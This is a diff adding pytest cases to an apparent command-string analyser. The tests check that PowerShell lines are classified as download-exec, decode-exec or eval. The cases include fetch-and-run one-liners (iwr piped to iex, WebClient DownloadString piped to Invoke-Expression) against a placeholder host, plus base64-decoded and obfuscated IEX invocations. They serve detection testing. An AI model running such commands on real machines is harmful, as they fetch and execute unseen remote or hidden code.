@@ -140,3 +140,28 @@ def test_a_wrapper_running_a_string_built_at_run_time_is_opaque(sh, line: str) -
     """A `watch`/`tmux` string that is not a literal is code nobody can see: kept as `eval`."""
     kinds = {c.kind for cmd in sh(line).commands for c in cmd.code}
     assert "eval" in kinds
+
+
+@pytest.mark.parametrize(
+    ("line", "kind"),
+    [
+        ("pwsh -NoProfile -Command 'iwr -useb https://a.example/u.ps1 | iex'", "download-exec"),
+        (
+            'powershell -c \'(New-Object Net.WebClient).DownloadString("https://a.example")'
+            " | Invoke-Expression'",
+            "download-exec",
+        ),
+        ("pwsh -c '$s=[char[]](105,100) -join \"\"; IEX $s'", "decode-exec"),
+        (
+            "pwsh -c 'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))'",
+            "decode-exec",
+        ),
+        ("pwsh -c '& (gcm i*x) $cmd'", "eval"),
+        ("pwsh -c '[scriptblock]::Create($t).Invoke()'", "eval"),
+        ("pwsh -NoProfile -Command 'Invoke-Pester -Path tests'", "inline"),
+    ],
+)
+def test_powershell_string_kind(sh, line: str, kind: str) -> None:
+    """A PowerShell command string that runs text as code is as opaque as `eval`; fetched or
+    decoded first, it is `download-exec` or `decode-exec`."""
+    assert kinds(sh(line)) == [kind]
